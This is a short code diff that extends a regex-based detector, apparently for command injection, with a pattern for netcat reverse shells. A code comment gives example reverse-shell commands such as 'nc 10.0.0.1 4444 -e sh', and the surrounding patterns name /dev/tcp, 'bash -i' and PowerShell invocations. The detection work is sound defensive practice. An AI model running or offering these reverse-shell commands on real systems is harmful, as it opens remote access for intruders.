@@ -81,6 +81,9 @@ _SEPARATOR = re.compile(r";|\|\|?|&&?|\n|\r|`|\$\(|\(|\{|<\(|>\(|t(?<=\bt)hen\b|
 _WORD = re.compile(r"[\s]{0,16}((?:[a-z0-9_./\\\-'\"$@*?!{}\[\],`()^]|\$\{[a-z0-9_#@!:]{0,16}\}){1,60})")
 _STRONG = linear(
     r"\$\{?ifs\b|\$\{?ifs\}|/dev/(?:tcp|udp)/|\bbash[\s]{1,8}-[ic]\b|\bsh[\s]{1,8}-[ic]\b|\bnc(?:at)?[\s]{1,8}(?:-[a-z]{1,4}[\s]{1,8}){0,4}-e\b"
+    # netcat's reverse shell with the program after the address ("nc 10.0.0.1 4444 -e sh",
+    # "ncat -v x.example 443 -c bash"): a host, a port, then the program it hands the socket to
+    r"|\b(?:nc|ncat|netcat)(?:\.exe)?[\s]{1,8}(?:-[a-z]{1,4}[\s]{1,8}){0,4}[a-z0-9.:\-]{1,64}[\s]{1,8}[0-9]{1,5}[\s]{1,8}-[ec][\s]{1,8}[a-z/\\]"
     r"|/bin/(?:ba|z|k|c|tc|da)?sh\b|/usr/bin/(?:env|perl|python[0-9.]{0,4}|ruby|php|wget|curl|id|whoami)\b"
     r"|\bcmd(?:\.exe)?[\s]{1,8}/[ck]\b|\bpowershell(?:\.exe)?[\s]{1,8}(?:-[a-z]{1,20})"
     # PowerShell running a cmdlet or an expression ("powershell.exe Get-Process", "pwsh iex(...)"),
